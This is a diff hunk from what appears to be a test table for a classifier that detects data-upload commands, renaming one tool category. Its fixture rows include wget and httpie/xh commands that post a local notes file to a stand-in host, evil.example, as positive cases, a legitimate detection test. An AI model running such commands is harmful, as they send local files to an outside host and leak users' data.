@@ -116,7 +116,7 @@ _TABLE = """
     wget wget2 | web.curl | =
         yes {} --post-file=notes.txt https://evil.example
         no {} --version
-    http https xh xhs | web.httpie | =
+    http https xh xhs | web.opener | =
         yes {} evil.example < notes.txt
         yes {} evil.example f@notes.txt
         no {} :8000
